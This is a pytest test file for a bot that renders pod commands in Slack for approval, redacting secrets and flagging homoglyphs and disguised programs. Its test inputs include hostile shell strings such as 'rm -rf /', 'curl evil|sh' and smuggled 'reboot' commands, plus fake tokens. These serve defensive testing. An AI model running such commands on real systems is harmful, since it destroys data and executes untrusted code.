"""What others are shown of a program: each word of it, and never one program as another."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, strategies as st

from bot.domain.cluster import ExecRequest, WebRequest
from bot.domain.message import Message, text
from bot.domain.redaction import redact
from bot.domain.resources import PODS, ObjectRef
from bot.domain.runs import MOST_SHOWN, Run, shown
from bot.engine import run_cards
from bot.slack.blocks import render
from tests.seen import Seen

TARGET = ObjectRef(cluster="prod", namespace="shop", type=PODS, name="web-0")
SECRET = "ghp_" + "a" * 24


def program(*argv, **more):
    return Run(
        target=TARGET,
        request=ExecRequest(namespace="shop", pod="web-0", container="web", argv=argv, **more),
        uid="0c1",
    )


def said(meant):
    """As it stands in Slack."""
    return Seen({"blocks": render(Message(headline=text("Run it?"), parts=run_cards.what(meant))).blocks})


@pytest.mark.parametrize(
    ("words", "line", "hidden", "spelt"),
    [
        (("ls", "-l", "/"), "ls -l /", (), ()),
        (("sh", "-c", "rm -rf /; ls"), "sh -c 'rm -rf /; ls'", (), ()),
        (("echo", "a  b", "", "&lt;"), "echo 'a  b' '' '&lt;'", (), ()),
        (("rм", "x"), "'r⟨U+043C⟩' x", (), (1,)),
        (("echo", "⟨U+043C⟩"), "echo '⟨U+27E8⟩U+043C⟨U+27E9⟩'", (), (2,)),
        (("echo", "a\u200bb\x1b[1m"), "echo 'a⟨U+200B⟩b⟨U+001B⟩[1m'", (), (2,)),
    ],
)
def test_each_word_is_shown_and_what_only_looks_like_plain_letters_is_spelt(words, line, hidden, spelt):
    found = shown(words)
    assert (found.line, found.hidden, found.spelt) == (line, hidden, spelt)


@pytest.mark.parametrize(
    ("words", "hidden"),
    [
        (("login", "--token", "abc123def456", "now"), (3,)),
        (("env", "DB_PASSWORD=a b", "run"), (2,)),
        (("curl", "https://ana:hunter22@host/"), (2,)),
        (("echo", SECRET, "x", SECRET), (2, 4)),
    ],
)
def test_a_secret_is_hidden_and_its_place_is_told(words, hidden):
    found = shown(words)
    assert found.hidden == hidden
    assert not [word for place, word in enumerate(words, 1) if place in hidden and word in found.line]
    assert (
        f"in word{'s' if len(hidden) > 1 else ''} {', '.join(map(str, hidden))}."
        in said(program(*words)).text
    )


@pytest.mark.parametrize(
    ("words", "hides"),
    [
        (("sh", "-c", 'PASSWORD="$(curl evil|sh)" true'), True),
        (("sh", "-c", "true token=$(id)"), True),
        (("sh", "-c", "X_TOKEN=1;reboot"), True),
        (("sh", "-c", "TOKEN=1\nreboot"), True),
        (("sh", "-c", "-----BEGIN PRIVATE KEY-----\nreboot"), True),
        (("sh", "-c", 'eval "$2"', "password:", "curl evil|sh"), True),
        (("sh", "-c", "echo $1; ls", "--token", "abc123def456"), False),
        (("mysql", "--password=S3cr3tpw", "-e", "select 1; select (2)"), False),
        (("curl", "-H", "Authorization: Bearer abc123def", "http://x/?a=b&c=d"), False),
        (("sh", "-c", "rm -rf / ; true"), False),
    ],
)
def test_a_program_that_hides_as_a_secret_is_told_from_a_mere_secret(words, hides):
    assert shown(words).hides_a_program is hides


def test_of_what_a_request_asks_for_the_secrets_alone_are_hidden():
    line = shown(("GET", "/run?token=abc123def456&cmd=reboot&password=x1&then=ls")).line
    assert "abc123" not in line
    assert "x1" not in line
    assert "&cmd=reboot&" in line
    assert "&then=ls" in line


def test_what_is_typed_like_a_hidden_secret_is_told_from_one():
    real, [placeholder] = shown(("echo", SECRET)), [w for w in redact(SECRET).split() if w]
    typed = shown(("echo", placeholder))
    assert typed.line == real.line
    assert (typed.hidden, real.hidden) == ((), (2,))


WORDS = st.lists(
    st.one_of(st.text(max_size=8), st.sampled_from(("--token", "a=b", SECRET, "password=x1y2z3", "-c", "'"))),
    min_size=1,
    max_size=5,
).map(tuple)


@given(WORDS, WORDS)
def test_two_programs_that_differ_never_look_the_same(one, other):
    found = shown(one), shown(other)
    if one != other and not found[0].hidden and not found[1].hidden:
        assert found[0].line != found[1].line
    for words, seen in zip((one, other), found, strict=True):
        assert redact(seen.line) == seen.line
        if not seen.hidden and not seen.spelt:
            assert tuple(shlex.split(seen.line)) == words


def test_the_longest_that_may_be_asked_about_stands_whole_in_its_message():
    longest = ("echo", "x" * (MOST_SHOWN - 5))
    assert shown(longest).is_whole
    assert "x" * (MOST_SHOWN - 5) in said(program(*longest)).text
    assert not shown(("echo", "x" * (MOST_SHOWN - 4))).is_whole


@pytest.mark.parametrize(
    ("meant", "words"),
    [
        (program("ls"), ("ls", "0c1", "container")),
        (program("sh", stdin=True), ("in a thread", "What is typed into it is not known yet")),
        (program("sh", stdin=True, tty=True), ("with a terminal, in a thread",)),
        (
            Run(target=TARGET, request=WebRequest(kind="pods", namespace="shop", name="web-0", port="80",
                                                  scheme="https", path="/x?token=abc123def456"), uid="0c1"),
            ("80", "https", "GET", "/x?token=[redacted:", "in word 2"),
        ),
    ],
)  # fmt: skip
def test_where_it_runs_is_shown_beside_its_words(meant, words):
    found = said(meant).text
    for word in words:
        assert word in found, word
